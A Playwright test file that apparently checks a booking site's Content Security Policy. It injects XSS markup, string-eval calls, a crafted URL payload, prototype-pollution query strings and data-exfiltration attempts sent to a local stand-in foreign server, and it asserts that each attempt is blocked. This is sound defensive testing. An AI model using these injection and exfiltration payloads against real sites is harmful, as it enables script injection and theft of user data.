import { readdirSync, readFileSync } from 'node:fs';
import type { Page } from '@playwright/test';
import { dishwasher } from './support/content';
import * as wizard from './support/wizard';
import { startServer } from './support/local-server';
import { answerLookups } from './support/lookups';
import { isAddedScript } from './support/pages';
import { hydrated, openHydrated } from './support/loading';
import { expect, test as base } from './support/test';

// These tests attack the site with injected text, markup, and script. Each attack must fail.

/** A foreign server that answers every request with permissive CORS, and records it. */
async function startForeignSite(page = '') {
  const requests: string[] = [];
  const server = await startServer((request, response) => {
    requests.push(`${request.method} ${request.url}`);
    response.writeHead(200, { 'content-type': 'text/html', 'access-control-allow-origin': '*' });
    response.end(page);
  });
  return { ...server, requests };
}

const test = base.extend<{ foreign: Awaited<ReturnType<typeof startForeignSite>> }>({
  foreign: async ({}, use) => {
    const site = await startForeignSite();
    await use(site);
    await site.stop();
  },
});

// The browser reports what it blocks, and React reports markup that it didn't render (#418).
const refusals = [/^policy: |^console: |^page error: .*#418/];

/** Returns the attack that succeeded, if any. Each attack would set `hacked`. */
const hacked = (page: Page) => page.evaluate(() => Reflect.get(window, 'hacked'));

/** Returns the directives of the policy that blocked something. */
const blockedBy = (faults: readonly string[]) =>
  faults.flatMap((fault) => /^policy: (\S+)/.exec(fault)?.[1] ?? []);

test('a build without a request service has no code that sends requests', () => {
  const files = readdirSync('out', { recursive: true, encoding: 'utf8' });
  const code = files.filter((name) => /\.(js|html)$/.test(name));
  expect(code.filter((name) => readFileSync(`out/${name}`, 'utf8').includes('_gotcha'))).toEqual([]);
});

test.describe('injected markup', () => {
  test.use({ expectedFaults: refusals });

  for (const path of ['/', '/about']) {
    test(`runs nothing and loads nothing foreign on ${path}`, async ({ page, foreign, faults }) => {
      const evil = `
        <script>hacked = 'inline script'</script>
        <script src="${foreign.origin}/evil.js"></script>
        <script type="module">hacked = 'module'</script>
        <img src="/share.png" onload="hacked = 'handler'">
        <img src="${foreign.origin}/pixel.png">
        <svg onload="hacked = 'svg'"></svg>
        <style>h1 { display: none }</style>
        <p style="display: none">styled</p>
        <link rel="stylesheet" href="${foreign.origin}/evil.css">
        <iframe src="${foreign.origin}/frame"></iframe>
        <iframe srcdoc="<script>parent.hacked = 'srcdoc'</script>"></iframe>
        <object data="${foreign.origin}/object"></object>
        <base href="${foreign.origin}/">
        <a id="script-link" href="javascript:hacked = 'address'">link</a>`;
      // We look right away, before React repairs the markup.
      await page.addInitScript(() =>
        document.addEventListener('DOMContentLoaded', () => {
          document.getElementById('script-link')?.click();
          const styled = [...document.querySelectorAll('h1, p[style]')];
          const hidden = styled.filter((element) => !element.checkVisibility()).length;
          Reflect.set(window, 'found', { base: document.baseURI, hidden });
        }),
      );
      await page.route(
        ({ pathname }) => pathname === path,
        async (route) => {
          const response = await route.fetch();
          const body = (await response.text()).replace(/<body[^>]*>/, (start) => start + evil);
          await route.fulfill({ response, body });
        },
      );
      await page.goto(path);
      const scripts = ['script-src-elem', 'script-src-attr'];
      const styles = ['style-src-elem', 'style-src-attr'];
      const directives = [...scripts, ...styles, 'img-src', 'frame-src', 'object-src', 'base-uri'];
      // The browser reports what it has blocked at some later time.
      await expect.poll(() => blockedBy(faults)).toEqual(expect.arrayContaining(directives));
      expect(await hacked(page)).toBeUndefined();
      expect(await page.evaluate(() => Reflect.get(window, 'found'))).toEqual({
        base: page.url(),
        hidden: 0,
      });
      expect(foreign.requests).toEqual([]);
    });
  }
});

test('a script in the owner’s map doesn’t run, even if somebody opens the map', async ({ page }) => {
  await page.goto('/map.svg');
  expect(await hacked(page)).toBeUndefined();
});

test.describe('injected script', () => {
  test.use({ expectedFaults: refusals });

  for (const path of ['/checkout', '/about']) {
    test(`can't run text as code on ${path}`, async ({ page }) => {
      await openHydrated(page, path);
      await page.evaluate(async () => {
        // The policy doesn't apply to code that the test evaluates, only to what runs later.
        await new Promise((later) => setTimeout(later));
        const attempts: (() => unknown)[] = [
          () => window.eval('hacked = "eval"'),
          () => new Function('hacked = "Function"')(),
          () => Reflect.apply(setTimeout, window, ['hacked = "timer"']),
          () => document.body.insertAdjacentHTML('beforeend', '<img src="/share.png" onload="hacked = 1">'),
          () => document.head.append(Object.assign(document.createElement('script'), { text: 'hacked = 2' })),
        ];
        // Some attempts throw.
        await Promise.allSettled(attempts.map(async (attempt) => attempt()));
      });
      expect(await hacked(page)).toBeUndefined();
    });

    test(`can't send data to another site from ${path}`, async ({ page, foreign, faults }) => {
      await openHydrated(page, path);
      await page.evaluate(async (origin) => {
        await new Promise((later) => setTimeout(later));
        const add = (tag: string, values: object) =>
          document.body.append(Object.assign(document.createElement(tag), values));
        const prefetchRule = `{"prefetch":[{"urls":["${origin}/ahead"]}]}`;
        const attempts: (() => unknown)[] = [
          () => fetch(`${origin}/fetch`),
          () => import(`${origin}/import.js`),
          () => {
            const request = new XMLHttpRequest();
            request.open('GET', `${origin}/request`);
            request.send();
          },
          () => navigator.sendBeacon(`${origin}/beacon`, 'a@b.c'),
          () => (new Image().src = `${origin}/picture`),
          () => new WebSocket(origin.replace('http', 'ws')),
          () => new EventSource(`${origin}/events`),
          () => add('script', { src: `${origin}/a.js` }),
          () => add('script', { type: 'speculationrules', text: prefetchRule }),
          () => add('link', { rel: 'prefetch', href: origin }),
          () => add('iframe', { src: origin }),
        ];
        // Some attempts throw and others fail later, but none may reach the other site.
        await Promise.allSettled(attempts.map(async (attempt) => attempt()));
        add('form', { id: 'evil', action: `${origin}/form`, method: 'post' });
        // We submit the form after returning, because a blocked form keeps the page busy for a while.
        setTimeout(() => document.querySelector<HTMLFormElement>('#evil')?.requestSubmit());
      }, foreign.origin);
      const directives = ['connect-src', 'img-src', 'frame-src', 'form-action'];
      // The browser reports what it has blocked at some later time.
      await expect.poll(() => blockedBy(faults)).toEqual(expect.arrayContaining(directives));
      expect(foreign.requests).toEqual([]);
    });
  }
});

test.describe('a foreign page', () => {
  test.use({ expectedFaults: refusals });

  const pageWithFrame = (address: string) =>
    `<!doctype html><title>x</title><iframe src="${address}"></iframe>`;

  test('can’t frame the site if the host sends headers', async ({ page, baseURL }) => {
    const site = await startForeignSite(pageWithFrame(`${baseURL}/`));
    await page.goto(site.origin);
    expect(page.frames()[1]?.url()).toMatch(/^chrome-error:/);
    await site.stop();
  });

  test('can frame the site if the host sends no headers, but the framed page is inert and makes no requests', async ({
    page,
    baseURL,
  }) => {
    const lookups = await answerLookups(page, {});
    const scripts: string[] = [];
    page.on('request', (request) => {
      if (isAddedScript(new URL(request.url()))) scripts.push(request.url());
    });
    const site = await startForeignSite(pageWithFrame(`${baseURL}/`));
    await page.route(`${baseURL}/`, async (route) => {
      // Hosts such as GitHub Pages can't send our headers.
      const headers = { 'content-type': 'text/html; charset=utf-8' };
      await route.fulfill({ response: await route.fetch(), headers });
    });
    await page.goto(site.origin);
    const framed = page.frameLocator('iframe');
    await expect(framed.locator('html')).toHaveAttribute('inert');
    const link = framed.locator('a[href]').first();
    const reached = await link.evaluate((element: HTMLElement) => {
      element.focus();
      const { left, top, width, height } = element.getBoundingClientRect();
      const pressed = document.elementFromPoint(left + width / 2, top + height / 2);
      return [document.activeElement === element, document.body.contains(pressed)];
    });
    expect(reached).toEqual([false, false]);
    // A page adds its scripts at the first user input, and they start the lookups.
    await link.dispatchEvent('pointerdown');
    await expect(framed.locator('script[src]')).toHaveCount(0);
    expect([...scripts, ...lookups]).toEqual([]);
    await site.stop();
  });
});

test('a crafted URL runs nothing and pollutes nothing', async ({ page }) => {
  const evil = encodeURIComponent('<img src=x onerror=hacked=1>');
  for (const address of [
    `?service=${evil}#${evil}`,
    '?__proto__[polluted]=1&constructor[prototype][polluted]=1&service=constructor',
  ]) {
    await page.goto('/terms');
    await page.evaluate(() => sessionStorage.clear());
    await page.goto(`/checkout${address}`);
    await wizard.expectStep(page, 1);
    await hydrated(page);
    await wizard.serviceButton(page, dishwasher).click();
    await wizard.expectStep(page, 2);
    expect(await hacked(page)).toBeUndefined();
    expect(await page.evaluate(() => Reflect.get({}, 'polluted'))).toBeUndefined();
    await expect(page.locator('img[src="x"]')).toHaveCount(0);
  }
});
